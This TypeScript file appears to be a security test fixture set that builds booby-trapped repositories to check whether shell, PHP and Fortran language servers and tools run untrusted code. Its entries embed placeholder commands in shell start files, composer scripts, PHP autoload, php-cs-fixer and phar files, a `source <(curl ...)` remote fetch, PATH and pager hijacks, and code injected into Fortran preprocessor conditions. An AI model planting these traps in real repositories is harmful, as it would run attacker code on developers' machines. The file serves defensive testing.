import type { ServerTrap } from '../trap.ts';

const shell = ['shell'] as const;
const php = ['php'] as const;
const fortran = ['fortran'] as const;
const greeting = 'greet() { echo "$1"; }\ngreet you\n';
const phpSource = '<?php\nfunction greet($name) { return $name; }\n$hello = greet("you");\n';
const module =
  'module greet\n  integer :: hello = 1\nend module greet\nprogram main\n  use greet\nend program main\n';

/** What servers of shells, PHP and Fortran read of a repository. */
export const scriptTraps: readonly ServerTrap[] = [
  {
    name: 'shell-start-files',
    families: shell,
    asked: '.bashrc',
    files: ({ command }) => ({
      '.bashrc': `${command}\n${greeting}`,
      '.bash_profile': `${command}\n`,
      '.profile': `${command}\n`,
      '.bash_aliases': `${command}\n`,
    }),
  },
  {
    name: 'shell-start-files-of-the-environment',
    families: shell,
    files: ({ command }) => ({ start: `${command}\n` }),
    environment: ({ root }) => ({ BASH_ENV: `${root}/start`, ENV: `${root}/start`, SHELLOPTS: '' }),
  },
  {
    name: 'shell-sources',
    families: shell,
    files: ({ outside, shell: text }) => ({
      'a.sh': `#!/bin/bash\n# shellcheck source=${outside}/mine.sh\nsource "${outside}/mine.sh"\n. ./evil.sh\nsource $(./evil.sh)\n${greeting}`,
      'evil.sh': text,
    }),
    outside: { 'mine.sh': 'mine() { :; }\n' },
  },
  {
    name: 'shell-sources-of-addresses',
    families: shell,
    files: ({ url }) => ({ 'a.sh': `#!/bin/bash\nsource <(curl ${url}x.sh)\n. ${url}y.sh\n${greeting}` }),
  },
  {
    name: 'shell-checker-settings',
    families: shell,
    files: ({ outside, root, shell: text }) => ({
      '.shellcheckrc': `external-sources=true\nsource-path=${outside}\nextended-analysis=true\nenable=all\n`,
      shellcheck: text,
      shfmt: text,
      'a.sh': `#!/bin/bash\n# shellcheck source-path=${root}\n${greeting}`,
    }),
  },
  {
    name: 'shell-formatter-settings',
    families: shell,
    files: ({ shell: text }) => ({
      '.editorconfig': 'root = true\n[*.sh]\nshell_variant = bash\nbinary_next_line = true\nignore = false\n',
      'bin/shfmt': text,
      'bin/shellcheck': text,
    }),
    environment: ({ root }) => ({ PATH: `${root}/bin:/usr/local/bin:/usr/bin:/bin` }),
  },
  {
    name: 'shell-explainer',
    families: shell,
    files: () => ({ 'a.sh': `#!/bin/bash\ntar -xzf x | grep -v greet\nls --color\n${greeting}` }),
    environment: ({ url }) => ({
      EXPLAINSHELL_ENDPOINT: url,
      SHELLCHECK_PATH: './shellcheck',
      SHFMT_PATH: './shfmt',
    }),
  },
  {
    name: 'shell-programs-of-its-variables',
    families: shell,
    files: ({ shell: text }) => ({ shellcheck: text, shfmt: text }),
    environment: ({ root }) => ({ SHELLCHECK_PATH: `${root}/shellcheck`, SHFMT_PATH: `${root}/shfmt` }),
  },
  {
    name: 'shell-names-as-commands',
    families: shell,
    files: ({ command, file }) => ({
      'a.sh': `#!/bin/bash\n${greeting}"; ${command}; "\n\`${command}\`\n$(touch ${file})\n'-x' --help\n`,
    }),
  },
  {
    name: 'shell-manuals',
    families: shell,
    files: ({ shell: text }) => ({
      'man1/tar.1': '.TH x\n',
      pager: text,
      'a.sh': `#!/bin/bash\ntar x\ncd y\nset -e\n${greeting}`,
    }),
    environment: ({ root }) => ({
      MANPATH: root,
      PAGER: `${root}/pager`,
      MANPAGER: `${root}/pager`,
      LESSOPEN: `|${root}/pager %s`,
    }),
  },

  {
    name: 'php-composer',
    families: php,
    files: ({ command }) => ({
      'composer.json': JSON.stringify({
        scripts: { 'post-install-cmd': command, 'post-autoload-dump': command },
        config: { 'allow-plugins': true },
      }),
    }),
  },
  {
    name: 'php-autoload',
    families: php,
    files: ({ command }) => ({
      'vendor/autoload.php': `<?php system(${JSON.stringify(command)});\n`,
      'vendor/composer/installed.json': '{ "packages": [] }',
      'composer.json': '{ "autoload": { "files": ["evil.php"] } }',
      'evil.php': `<?php system(${JSON.stringify(command)});\n`,
    }),
  },
  {
    name: 'php-tools',
    families: php,
    files: ({ shell: text, command }) => ({
      'vendor/bin/phpcs': text,
      'vendor/bin/phpstan': text,
      'vendor/bin/php-cs-fixer': text,
      'phpcs.xml': '<ruleset name="x"><config name="installed_paths" value="."/></ruleset>',
      'phpstan.neon': 'parameters:\n\tbootstrapFiles:\n\t\t- evil.php\n',
      '.php-cs-fixer.php': `<?php system(${JSON.stringify(command)});\n`,
      'evil.php': `<?php system(${JSON.stringify(command)});\n`,
    }),
  },
  {
    name: 'php-server-settings',
    families: php,
    files: ({ root, shell: text, outside, url }) => ({
      evil: text,
      '.intelephense/config.json': JSON.stringify({
        runtime: `${root}/evil`,
        storagePath: outside,
        licenceKey: 'x',
      }),
      'intelephense.json': JSON.stringify({ storagePath: outside, telemetry: { endpoint: url } }),
      'php.ini': `auto_prepend_file=${root}/a.php\n`,
    }),
  },
  {
    name: 'php-includes',
    families: php,
    outside: { 'mine.php': '<?php function mine() {}\n' },
    files: ({ outside, url }) => ({
      'a.php': `${phpSource}include "${outside}/mine.php";\nrequire_once "${url}x.php";\n/** @see ${url} */\n`,
    }),
  },
  {
    name: 'php-archive',
    families: php,
    files: ({ command }) => ({
      'evil.phar': `<?php system(${JSON.stringify(command)}); __HALT_COMPILER(); ?>\n`,
      'a.php': `${phpSource}include "phar://evil.phar/x.php";\n`,
    }),
  },

  {
    name: 'fortran-preprocessor',
    families: fortran,
    files: ({ root, shell: text }) => {
      const options = JSON.stringify({
        pp_command: `${root}/evil`,
        preprocessor: `${root}/evil`,
        pp_suffixes: ['.f90', '.F90'],
      });
      return { '.fortls': options, '.fortlsrc': options, '.fortls.json': options, evil: text };
    },
  },
  ...['F90', 'f90', 'FPP', 'F'].map((ending) => ({
    name: `fortran-condition-in-${ending}${ending === 'f90' ? '-of-lower-case' : ''}`,
    families: fortran,
    asked: ending === 'f90' ? 'a.f90' : `b.${ending}`,
    files: ({ file }: { readonly file: string }) => {
      const code = `__import__('pathlib').Path('${file}').write_text('run')`;
      return {
        'a.f90': module,
        [ending === 'f90' ? 'a.f90' : `b.${ending}`]:
          `#define X ${code}\n#if X\n#endif\n#if ${code}\n#endif\n${module}`,
      };
    },
  })),
  {
    name: 'fortran-folders-of-the-user',
    families: fortran,
    outside: { 'mine.f90': 'module mine\nend module mine\n' },
    files: ({ outside }) => ({
      '.fortlsrc': JSON.stringify({ source_dirs: [outside], include_dirs: [outside], excl_paths: [] }),
      'a.f90': `${module}include "${outside}/mine.f90"\n`,
    }),
  },
  {
    name: 'fortran-includes',
    families: fortran,
    files: ({ outside }) => ({ 'a.f90': `#include "${outside}/mine.h"\n${module}` }),
    outside: { 'mine.h': 'mine\n' },
  },
  {
    name: 'fortran-update',
    families: fortran,
    files: () => ({
      '.fortlsrc': '{ "disable_autoupdate": false, "debug_log": true, "incremental_sync": true }',
    }),
  },
];
